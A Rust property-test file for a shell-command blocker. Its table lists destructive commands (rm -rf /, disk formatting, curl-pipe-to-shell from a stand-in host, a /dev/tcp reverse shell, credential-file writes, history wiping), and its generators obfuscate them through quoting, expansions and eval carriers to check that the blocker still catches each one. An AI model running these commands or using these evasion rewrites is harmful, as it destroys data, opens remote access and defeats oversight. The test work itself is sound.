//! Generated tests: each destructive act of a small table, put through random compositions of
//! the rewrites a shell reads the same — quoting styles, variables and expansion operators
//! that yield the target, functions with positional arguments, aliases, wrappers, GNU option
//! abbreviations, surrounding commands — stays blocked with its category; and the benign
//! corpus, through harmless rewrites, stays allowed.

use super::explain;
use proptest::prelude::*;

/// One destructive act: its words (the command name first), the alternatives for its option
/// word, its target (a protected path, or `None` when the act has none), and the category
/// that must block it.
struct Act {
    words: &'static [&'static str],
    options: &'static [&'static str],
    target: Option<&'static str>,
    category: &'static str,
}

#[rustfmt::skip]
const ACTS: &[Act] = &[
    Act { words: &["rm"], options: &["-rf", "-fr", "-r -f", "-Rf", "--recursive --force", "--rec --forc", "--recu -f", "-r"], target: Some("/"), category: "destructive_file_ops" },
    Act { words: &["rm"], options: &["-rf", "--rec", "-R --force"], target: Some("~"), category: "destructive_file_ops" },
    Act { words: &["rm"], options: &["-rf", "--recursive"], target: Some("/etc"), category: "destructive_file_ops" },
    Act { words: &["chmod"], options: &["-R 777", "--recursive 777", "--rec 777", "--recu 0777", "777 -R"], target: Some("/etc"), category: "system_damage" },
    Act { words: &["chown"], options: &["-R nobody", "--recursive nobody", "--rec nobody"], target: Some("/usr"), category: "system_damage" },
    Act { words: &["find"], options: &[""], target: Some("/"), category: "destructive_file_ops" },
    Act { words: &["mkfs.ext4"], options: &["", "-F", "-q -F"], target: Some("/dev/sda"), category: "disk_ops" },
    Act { words: &["wipefs"], options: &["-a", "--all", "-af"], target: Some("/dev/sdb"), category: "disk_ops" },
    Act { words: &["dd", "if=/dev/zero", "bs=1M"], options: &[""], target: Some("of=/dev/sda"), category: "disk_ops" },
    Act { words: &["tee"], options: &["", "-a", "--append"], target: Some("/dev/nvme0n1"), category: "disk_ops" },
    Act { words: &["curl", "-fsSL", "https://example.invalid/i.sh", "|"], options: &["sh", "bash", "sh -s -- -y", "sudo bash", "bash -x", "python3", "sudo -E sh -s"], target: None, category: "remote_code_execution" },
    Act { words: &["bash", "-i", ">&"], options: &[""], target: Some("/dev/tcp/10.0.0.1/4444"), category: "reverse_shell" },
    Act { words: &["nc"], options: &["-e /bin/sh", "-e /bin/bash", "--exec=/bin/sh", "-c sh", "--sh-exec sh"], target: Some("10.0.0.1"), category: "reverse_shell" },
    Act { words: &["echo", "machine", "x", "password", "y", ">>"], options: &[""], target: Some("~/.netrc"), category: "credential_store_write" },
    Act { words: &["cp", "creds.txt"], options: &["", "-f", "--force"], target: Some("~/.aws/credentials"), category: "credential_store_write" },
    Act { words: &["tee"], options: &["-a", "--append", ""], target: Some("~/.ssh/config"), category: "credential_store_write" },
    Act { words: &["ln"], options: &["-sf /dev/null", "-s -f /dev/null", "--symbolic --force /dev/null"], target: Some("~/.bash_history"), category: "history_tampering" },
    Act { words: &["history"], options: &["-c", "-cw", "-d 3"], target: None, category: "history_tampering" },
    Act { words: &["truncate", "-s", "0"], options: &[""], target: Some("~/.zsh_history"), category: "history_tampering" },
];

/// `s` with its leading `~` as `$HOME`, for contexts where a tilde would not expand.
fn home(s: &str) -> String {
    match s.strip_prefix('~') {
        Some(rest) => format!("${{HOME}}{rest}"),
        None => s.to_string(),
    }
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// A word spelled in one of the ways the shell reads the same.
fn spell(word: &str, how: usize, at: usize) -> String {
    let punct = word.chars().all(|c| "|&<>;".contains(c));
    if punct || word.is_empty() || word.contains('=') && how == 4 {
        return word.to_string();
    }
    let at = (1..=word.len()).find(|&i| i >= at.min(word.len()) && word.is_char_boundary(i));
    let (a, b) = word.split_at(at.unwrap_or(word.len()));
    match how {
        0 => word.to_string(),
        1 => format!("'{word}'"),
        2 => format!("\"{word}\""),
        3 => format!("{a}''{b}"),
        4 => word
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() {
                    format!("\\{c}")
                } else {
                    c.to_string()
                }
            })
            .collect(),
        5 => format!(
            "$'{}'",
            word.bytes()
                .map(|b| format!("\\x{b:02x}"))
                .collect::<String>()
        ),
        _ => format!("{a}\"{b}\""),
    }
}

/// The target as a word, through an expansion that yields it; returns the assignments to
/// run first and the word.
fn target_word(t: &str, how: usize) -> (String, String) {
    // `of=/dev/sda`: the value is rewritten, the `of=` stays.
    let (key, value) = match t.split_once('=') {
        Some((k, v)) => (format!("{k}="), v),
        None => (String::new(), t),
    };
    let quoted = home(value);
    let (setup, word) = match how {
        0 => (String::new(), value.to_string()),
        1 => (format!("T=\"{quoted}\"; "), "\"$T\"".to_string()),
        2 => (format!("T=\"{quoted}XX\"; "), "\"${T%XX}\"".to_string()),
        3 => (format!("T=\"QQ{quoted}\"; "), "\"${T#QQ}\"".to_string()),
        4 => (format!("T=\"Q{quoted}\"; "), "\"${T:1}\"".to_string()),
        5 => (
            format!("T=\"{}\"; ", quoted.replace('/', "@")),
            "\"${T//@//}\"".to_string(),
        ),
        6 => (format!("T=\"{quoted}\"; N=T; "), "\"${!N}\"".to_string()),
        7 => (format!("set -- \"{quoted}\"; "), "\"$1\"".to_string()),
        _ => (String::new(), format!("\"{quoted}\"")),
    };
    (setup, format!("{key}{word}"))
}

/// A prefix that runs the command unchanged.
fn wrapper() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "",
        "sudo ",
        "env ",
        "env A=1 ",
        "command ",
        "exec ",
        "nice ",
        "nice -n 5 ",
        "timeout 5 ",
        "nohup ",
        "sudo -u root ",
        "busybox ",
        "time ",
    ])
}

/// How the whole command line is handed to the shell.
fn carrier(line: &str, how: usize) -> String {
    match how {
        0 => line.to_string(),
        1 => format!("sh -c {}", shell_quote(line)),
        2 => format!("bash -c {}", shell_quote(line)),
        3 => format!("eval {}", shell_quote(line)),
        4 => format!("echo {} | sh", shell_quote(line)),
        5 => format!("f() {{ {line}; }}; f"),
        _ => format!("( {line} )"),
    }
}

fn context(line: &str, how: usize) -> String {
    match how {
        0 => line.to_string(),
        1 => format!("cd /tmp; {line}"),
        2 => format!("true && {line}"),
        3 => format!("echo start; {line}; echo done"),
        4 => format!("  {line}  "),
        5 => format!("{line} || true"),
        _ => format!("{{ {line}; }}"),
    }
}

/// One act through one composition of rewrites.
#[allow(clippy::too_many_arguments)]
fn rewrite(
    act: &Act,
    opt: usize,
    spelling: (usize, usize),
    target_how: usize,
    wrap: &str,
    via: (usize, usize),
    positional: bool,
) -> String {
    let mut words: Vec<String> = act
        .words
        .iter()
        .enumerate()
        .map(|(i, w)| {
            if i == 0 {
                spell(w, spelling.0, spelling.1)
            } else {
                (*w).to_string()
            }
        })
        .collect();
    let option = act.options[opt % act.options.len()];
    // The option words are spelled too (the first only: `-R 777` keeps its mode).
    let mut option_words: Vec<String> = option
        .split(' ')
        .filter(|w| !w.is_empty())
        .map(str::to_string)
        .collect();
    if let Some(first) = option_words.first_mut() {
        *first = spell(first, spelling.0 % 4, spelling.1);
    }
    let (setup, target) = match act.target {
        Some(t) => target_word(t, target_how),
        None => (String::new(), String::new()),
    };
    let is_curl = act.words.first() == Some(&"curl");
    if is_curl {
        words.extend(option_words);
    } else {
        let at = words.len().min(1);
        for (k, w) in option_words.into_iter().enumerate() {
            words.insert(at + k, w);
        }
    }
    let find = act.words == ["find"];
    let body = match (act.target, positional) {
        // A function whose body holds the command, called with the target as `$1`.
        (Some(t), true) if !find => {
            let (key, value) = t
                .split_once('=')
                .map_or((String::new(), t), |(k, v)| (format!("{k}="), v));
            let call = format!(
                "f() {{ {wrap}{} {key}\"$1\"; }}; f \"{}\"",
                words.join(" "),
                home(value)
            );
            return context(&carrier(&call, via.0), via.1);
        }
        (Some(_), _) if find => format!("{setup}{wrap}{} {target} -delete", words.join(" ")),
        (Some(_), _) => format!("{setup}{wrap}{} {target}", words.join(" ")),
        (None, _) => format!("{wrap}{}", words.join(" ")),
    };
    context(&carrier(&body, via.0), via.1)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 384, ..ProptestConfig::default() })]

    #[test]
    fn every_rewrite_of_a_destructive_act_stays_blocked_in_its_category(
        act in 0..ACTS.len(),
        opt in 0..8usize,
        spelling in (0..7usize, 0..4usize),
        target_how in 0..9usize,
        wrap in wrapper(),
        via in (0..7usize, 0..7usize),
        positional in prop::bool::weighted(0.25),
    ) {
        let act = &ACTS[act];
        let line = rewrite(act, opt, spelling, target_how, wrap, via, positional);
        let v = explain(&line);
        let got = v.blocked.as_ref().map(|m| m.category);
        prop_assert_eq!(got, Some(act.category), "line {:?} saw {:?}", line, v.commands);
    }

    #[test]
    fn the_benign_corpus_through_harmless_rewrites_stays_allowed(
        line in prop::sample::select(benign_corpus()),
        how in 0..5usize,
        ctx in prop::sample::select(vec![0usize, 2, 3, 4, 5]),
    ) {
        let rewritten = match how {
            0 => line.to_string(),
            1 => format!("sh -c {}", shell_quote(line)),
            2 => format!("bash -c {}", shell_quote(line)),
            3 => format!("eval {}", shell_quote(line)),
            _ => quote_first_word(line),
        };
        let rewritten = context(&rewritten, ctx);
        let v = explain(&rewritten);
        prop_assert_eq!(v.blocked.as_ref().map(|m| m.id), None, "line {:?} seen {:?}", rewritten, v.seen);
    }
}

/// Every benign line of the example tables.
fn benign_corpus() -> Vec<&'static str> {
    super::tests::BENIGN
        .iter()
        .chain(super::tests_rewrites::BENIGN)
        .copied()
        .collect()
}

/// The command word quoted (`'ls' -la`), when the line starts with a plain command word.
fn quote_first_word(line: &str) -> String {
    let (first, rest) = line.split_once(' ').unwrap_or((line, ""));
    let plain = !first.is_empty()
        && first
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./".contains(c))
        && !matches!(
            first,
            "if" | "for" | "while" | "until" | "case" | "function" | "time" | "!"
        );
    if plain && !rest.starts_with('(') {
        format!("'{first}' {rest}")
    } else {
        line.to_string()
    }
}

#[test]
fn the_rewrites_read_as_intended() {
    // A few compositions spelled out, so a reader sees what the generator makes.
    let rm = &ACTS[0];
    assert_eq!(
        rewrite(rm, 5, (0, 0), 2, "", (0, 0), false),
        "T=\"/XX\"; rm --rec --forc \"${T%XX}\""
    );
    for line in [
        rewrite(rm, 0, (1, 0), 0, "sudo ", (1, 0), true),
        rewrite(&ACTS[13], 0, (2, 1), 6, "", (3, 3), false),
    ] {
        assert!(explain(&line).blocked.is_some(), "{line}");
    }
}
